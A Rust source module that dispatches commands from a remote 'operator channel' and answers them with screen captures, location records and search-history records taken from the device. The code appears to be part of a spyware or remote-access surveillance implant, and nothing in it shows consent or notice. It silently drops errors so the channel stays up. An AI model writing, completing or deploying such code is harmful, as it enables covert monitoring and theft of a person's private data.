//! Inbound command dispatch.
//!
//! Every inbound frame yields at most one reply. Nothing in here
//! propagates an error: malformed frames, unknown tags, empty queues and
//! failed captures are logged and dropped, and the connection stays up.

use std::sync::Arc;

use async_trait::async_trait;
use tracing::{debug, info, warn};

use crate::capture::CaptureClient;
use crate::codec::EnvelopeCodec;
use crate::error::ChannelError;
use crate::message::{Envelope, PullCommand};
use crate::network::{ConnectionHandle, Inbound, InboundFrame, LifecycleEvent};
use crate::queue::RecordQueue;

/// Where replies go.
#[async_trait]
pub trait ReplySink: Send + Sync {
    async fn send_reply(&self, reply: Envelope) -> Result<(), ChannelError>;
}

#[async_trait]
impl ReplySink for ConnectionHandle {
    async fn send_reply(&self, reply: Envelope) -> Result<(), ChannelError> {
        self.send(&reply)
    }
}

pub struct Dispatcher {
    location: Arc<RecordQueue>,
    history: Arc<RecordQueue>,
    capture: CaptureClient,
}

impl Dispatcher {
    pub fn new(
        location: Arc<RecordQueue>,
        history: Arc<RecordQueue>,
        capture: CaptureClient,
    ) -> Self {
        Self {
            location,
            history,
            capture,
        }
    }

    /// Decode one frame and compute its reply, if any.
    pub async fn handle_frame(&self, frame: &InboundFrame) -> Option<Envelope> {
        let decoded = match frame {
            InboundFrame::Text(text) => EnvelopeCodec::decode(text),
            InboundFrame::Binary(bytes) => EnvelopeCodec::decode_bytes(bytes),
        };
        let envelope = match decoded {
            Ok(envelope) => envelope,
            Err(e) => {
                warn!("discarding inbound frame: {e}");
                return None;
            }
        };

        let Ok(command) = PullCommand::try_from(envelope.command.as_str()) else {
            info!(command = %envelope.command, "ignoring unknown command");
            return None;
        };
        debug!(%command, "received command");

        let payload = match command {
            PullCommand::Screenshots => self.capture.capture().await.map(|img| img.base64_png),
            PullCommand::Location => self.location.dequeue_oldest(),
            PullCommand::SearchHistory => self.history.dequeue_oldest(),
        };

        match payload {
            Ok(payload) => Some(Envelope::reply(command.reply(), payload)),
            Err(e @ ChannelError::EmptyQueue(_)) => {
                debug!(%command, "no reply: {e}");
                None
            }
            Err(e) => {
                warn!(%command, "no reply: {e}");
                None
            }
        }
    }

    /// Consume frames until the connection's inbound channel closes,
    /// sending each reply through `sink`. Lifecycle events are logged.
    pub async fn run<S: ReplySink>(self, mut inbound: Inbound, sink: S) {
        let mut lifecycle_open = true;
        loop {
            tokio::select! {
                frame = inbound.frames.recv() => match frame {
                    Some(frame) => {
                        if let Some(reply) = self.handle_frame(&frame).await {
                            let command = reply.command.clone();
                            match sink.send_reply(reply).await {
                                Ok(()) => debug!(%command, "reply sent"),
                                Err(e) => warn!(%command, "reply not sent: {e}"),
                            }
                        }
                    }
                    None => break,
                },

                event = inbound.lifecycle.recv(), if lifecycle_open => match event {
                    Some(event) => log_lifecycle(&event),
                    None => lifecycle_open = false,
                },
            }
        }
        debug!("dispatcher stopped");
    }
}

fn log_lifecycle(event: &LifecycleEvent) {
    match event {
        LifecycleEvent::Opened => debug!("dispatcher ready"),
        LifecycleEvent::Closed { code, reason } => {
            info!(code, reason = %reason, "operator channel closed; no further commands")
        }
        LifecycleEvent::Failed(cause) => {
            warn!(cause = %cause, "operator channel failed; no further commands")
        }
    }
}
